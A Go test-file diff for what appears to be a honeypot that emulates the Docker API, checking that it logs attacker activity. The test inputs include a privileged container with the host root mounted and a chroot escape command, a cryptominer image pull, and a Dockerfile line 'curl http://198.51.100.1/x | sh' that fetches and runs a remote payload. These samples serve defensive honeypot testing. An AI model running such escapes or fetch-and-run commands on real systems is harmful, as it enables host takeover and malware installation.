@@ -1,17 +1,27 @@
 package docker
 
 import (
+	"archive/tar"
 	"bufio"
+	"bytes"
 	"context"
+	"encoding/binary"
 	"encoding/json"
 	"io/ioutil"
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"os"
+	"reflect"
 	"strings"
 	"testing"
+	"time"
 
+	"github.com/honeytrap/honeytrap/artifacts"
+	"github.com/honeytrap/honeytrap/event"
 	"github.com/honeytrap/honeytrap/pushers"
+	"github.com/honeytrap/honeytrap/pushers/pushertest"
+	"github.com/honeytrap/honeytrap/services/servicetest"
 )
 
 type Test struct {
@@ -70,22 +80,32 @@ var tests = []struct {
 		Name:             "containers_create",
 		ReqMethod:        "POST",
 		ReqPath:          "/1.41/containers/create",
-		ReqBody:          "",
+		ReqBody:          `{"Image": "alpine"}`,
 		ExpectedStatus:   201,
 		ExpectedJSONKeys: []string{"Id", "Warnings"},
 	},
 	{
-		Name:             "containers_kill",
+		// the container is started and killed by the next cases, the
+		// requests share the state of the source
+		Name:             "containers_create_named",
 		ReqMethod:        "POST",
-		ReqPath:          "/1.41/containers/e90e34656806/kill",
+		ReqPath:          "/1.41/containers/create?name=e90e34656806",
+		ReqBody:          `{"Image": "alpine"}`,
+		ExpectedStatus:   201,
+		ExpectedJSONKeys: []string{"Id", "Warnings"},
+	},
+	{
+		Name:             "containers_start",
+		ReqMethod:        "POST",
+		ReqPath:          "/1.41/containers/e90e34656806/start",
 		ReqBody:          "",
 		ExpectedStatus:   204,
 		ExpectedJSONKeys: []string{},
 	},
 	{
-		Name:             "containers_start",
+		Name:             "containers_kill",
 		ReqMethod:        "POST",
-		ReqPath:          "/1.41/containers/e90e34656806/start",
+		ReqPath:          "/1.41/containers/e90e34656806/kill",
 		ReqBody:          "",
 		ExpectedStatus:   204,
 		ExpectedJSONKeys: []string{},
@@ -170,3 +190,275 @@ func TestDocker(t *testing.T) {
 	}
 
 }
+
+func newService(t *testing.T) (*dockerService, *pushertest.Channel, func()) {
+	dir, err := ioutil.TempDir("", "docker")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	store, err := artifacts.New(artifacts.WithDataDir(dir))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	artifacts.SetDefault(store)
+
+	s := Docker().(*dockerService)
+
+	c := &pushertest.Channel{}
+	s.SetChannel(c)
+
+	return s, c, func() {
+		artifacts.SetDefault(nil)
+		os.RemoveAll(dir)
+	}
+}
+
+// do sends the request with the headers, given as name and value pairs, to
+// the service.
+func do(t *testing.T, s *dockerService, method, path, body string, header ...string) (*http.Response, string) {
+	req := httptest.NewRequest(method, path, strings.NewReader(body))
+	for i := 0; i+1 < len(header); i += 2 {
+		req.Header.Set(header[i], header[i+1])
+	}
+
+	return servicetest.Do(t, s, req)
+}
+
+// frames decodes a multiplexed stream.
+func frames(t *testing.T, data string) string {
+	out := ""
+	for len(data) > 0 {
+		if len(data) < 8 {
+			t.Fatalf("Invalid stream header %q", data)
+		}
+
+		size := int(binary.BigEndian.Uint32([]byte(data[4:8])))
+		out += data[8 : 8+size]
+		data = data[8+size:]
+	}
+	return out
+}
+
+func TestContainers(t *testing.T) {
+	s, c, cleanup := newService(t)
+	defer cleanup()
+
+	resp, _ := do(t, s, "POST", "/v1.41/images/create?fromImage=registry.example.com/miner/xmrig:v6", "")
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("Expected pull, got %d", resp.StatusCode)
+	}
+
+	pulls := c.Find("image-pull")
+	if len(pulls) != 1 || pulls[0].Get("docker.registry") != "registry.example.com" || pulls[0].Get("docker.image") != "miner/xmrig" || pulls[0].Get("docker.tag") != "v6" {
+		t.Fatalf("Unexpected pull events %v", pulls)
+	}
+
+	resp, body := do(t, s, "POST", "/v1.41/containers/create?name=pwn", `{
+		"Image": "alpine",
+		"Cmd": ["chroot", "/host", "sh", "-c", "echo pwned > /dev/null; id"],
+		"HostConfig": {"Binds": ["/:/host"], "Privileged": true}
+	}`)
+	if resp.StatusCode != http.StatusCreated {
+		t.Fatalf("Expected container to be created, got %d: %s", resp.StatusCode, body)
+	}
+
+	created := struct{ Id string }{}
+	if err := json.Unmarshal([]byte(body), &created); err != nil {
+		t.Fatal(err)
+	}
+
+	creates := c.Find("container-create")
+	if len(creates) != 1 {
+		t.Fatalf("Expected create event, got %d", len(creates))
+	}
+
+	if escapes, _ := creates[0].Load("docker.escapes"); !reflect.DeepEqual(escapes, []string{"privileged", "host-root-mount"}) {
+		t.Errorf("Unexpected escapes %v", escapes)
+	}
+
+	if _, body := do(t, s, "GET", "/v1.41/containers/json", ""); body != "[]\n" {
+		t.Errorf("Expected no running containers, got %s", body)
+	}
+
+	_, body = do(t, s, "GET", "/v1.41/containers/json?all=1", "")
+
+	containers := []struct {
+		Id    string
+		Names []string
+		Image string
+		State string
+	}{}
+
+	if err := json.Unmarshal([]byte(body), &containers); err != nil {
+		t.Fatal(err)
+	}
+
+	if len(containers) != 1 || containers[0].Id != created.Id || containers[0].Names[0] != "/pwn" || containers[0].Image != "alpine" || containers[0].State != "created" {
+		t.Fatalf("Unexpected containers %+v", containers)
+	}
+
+	if resp, _ := do(t, s, "POST", "/v1.41/containers/pwn/start", ""); resp.StatusCode != http.StatusNoContent {
+		t.Fatalf("Expected container to start, got %d", resp.StatusCode)
+	}
+
+	if _, body := do(t, s, "GET", "/v1.41/containers/"+created.Id[:12]+"/logs?stdout=1", ""); !strings.HasPrefix(frames(t, body), "uid=0(root)") {
+		t.Errorf("Expected output of id in logs, got %q", body)
+	}
+
+	execs := c.Find("exec")
+	if len(execs) != 1 || execs[0].Get("docker.command") != "chroot /host sh -c echo pwned > /dev/null; id" {
+		t.Errorf("Unexpected exec events %v", execs)
+	}
+
+	resp, body = do(t, s, "POST", "/v1.41/containers/pwn/exec", `{"Cmd": ["sh", "-c", "echo hello"], "AttachStdout": true}`)
+	if resp.StatusCode != http.StatusCreated {
+		t.Fatalf("Expected exec to be created, got %d: %s", resp.StatusCode, body)
+	}
+
+	exec := struct{ Id string }{}
+	if err := json.Unmarshal([]byte(body), &exec); err != nil {
+		t.Fatal(err)
+	}
+
+	resp, body = do(t, s, "POST", "/v1.41/exec/"+exec.Id+"/start", `{"Detach": false, "Tty": false}`)
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("Expected exec to start, got %d", resp.StatusCode)
+	}
+
+	if out := frames(t, body); out != "hello\n" {
+		t.Errorf("Expected hello, got %q", out)
+	}
+
+	if resp, _ := do(t, s, "POST", "/v1.41/containers/pwn/kill", ""); resp.StatusCode != http.StatusNoContent {
+		t.Errorf("Expected container to be killed, got %d", resp.StatusCode)
+	}
+
+	if resp, _ := do(t, s, "POST", "/v1.41/containers/e90e34656806/start", ""); resp.StatusCode != http.StatusNotFound {
+		t.Errorf("Expected unknown container, got %d", resp.StatusCode)
+	}
+
+	// other attackers have their own containers
+	client, server := net.Pipe()
+	defer client.Close()
+
+	conn := &addrConn{Conn: server, remote: &net.TCPAddr{IP: net.ParseIP("198.51.100.1"), Port: 31337}}
+	go s.Handle(context.TODO(), conn)
+
+	req := httptest.NewRequest("GET", "/v1.41/containers/json?all=1", nil)
+	go req.Write(client)
+
+	resp, err := http.ReadResponse(bufio.NewReader(client), req)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if data, _ := ioutil.ReadAll(resp.Body); string(data) != "[]\n" {
+		t.Errorf("Expected no containers for another attacker, got %s", data)
+	}
+}
+
+type addrConn struct {
+	net.Conn
+	remote net.Addr
+}
+
+func (c *addrConn) RemoteAddr() net.Addr {
+	return c.remote
+}
+
+func TestAttach(t *testing.T) {
+	s, c, cleanup := newService(t)
+	defer cleanup()
+
+	_, body := do(t, s, "POST", "/v1.41/containers/create", `{"Image": "ubuntu", "Cmd": "/bin/sh", "Tty": true, "OpenStdin": true}`)
+
+	created := struct{ Id string }{}
+	if err := json.Unmarshal([]byte(body), &created); err != nil {
+		t.Fatal(err)
+	}
+
+	do(t, s, "POST", "/v1.41/containers/"+created.Id+"/start", "")
+
+	client, server := net.Pipe()
+	defer client.Close()
+
+	go s.Handle(context.TODO(), server)
+
+	req := httptest.NewRequest("POST", "/v1.41/containers/"+created.Id+"/attach?stream=1&stdin=1&stdout=1", nil)
+	req.Header.Set("Connection", "Upgrade")
+	req.Header.Set("Upgrade", "tcp")
+
+	go req.Write(client)
+
+	br := bufio.NewReader(client)
+
+	resp, err := http.ReadResponse(br, req)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if resp.StatusCode != http.StatusSwitchingProtocols {
+		t.Fatalf("Expected upgrade, got %d", resp.StatusCode)
+	}
+
+	go client.Write([]byte("echo hi\n"))
+
+	line, err := br.ReadString('\n')
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if line != "hi\n" {
+		t.Errorf("Expected hi, got %q", line)
+	}
+
+	client.Close()
+
+	var execs []event.Event
+	for i := 0; i < 50 && len(execs) == 0; i++ {
+		time.Sleep(10 * time.Millisecond)
+		execs = c.Find("exec")
+	}
+
+	if len(execs) != 1 || execs[0].Get("docker.command") != "echo hi" {
+		t.Errorf("Unexpected exec events %v", execs)
+	}
+}
+
+func TestBuild(t *testing.T) {
+	s, c, cleanup := newService(t)
+	defer cleanup()
+
+	dockerfile := "FROM alpine\n# miner\nRUN apk add curl && \\\n    curl http://198.51.100.1/x | sh\n"
+
+	buff := bytes.Buffer{}
+
+	tw := tar.NewWriter(&buff)
+	tw.WriteHeader(&tar.Header{Name: "Dockerfile", Mode: 0644, Size: int64(len(dockerfile))})
+	tw.Write([]byte(dockerfile))
+	tw.Close()
+
+	resp, body := do(t, s, "POST", "/v1.41/build?t=evil:latest", buff.String())
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("Expected build, got %d: %s", resp.StatusCode, body)
+	}
+
+	if !strings.Contains(body, `"Step 2/2 : RUN apk add curl`) || !strings.Contains(body, `curl http://198.51.100.1/x | sh\n"}`) {
+		t.Errorf("Expected build steps, got %s", body)
+	}
+
+	builds := c.Find("build")
+	if len(builds) != 1 || builds[0].Get("docker.dockerfile") != dockerfile {
+		t.Fatalf("Unexpected build events %v", builds)
+	}
+
+	if _, err := artifacts.Default().Get(builds[0].Get("docker.sha256")); err != nil {
+		t.Errorf("Expected build context to be saved: %s", err.Error())
+	}
+
+	if _, body := do(t, s, "GET", "/v1.41/images/json", ""); !strings.Contains(body, `"evil:latest"`) {
+		t.Errorf("Expected built image, got %s", body)
+	}
+}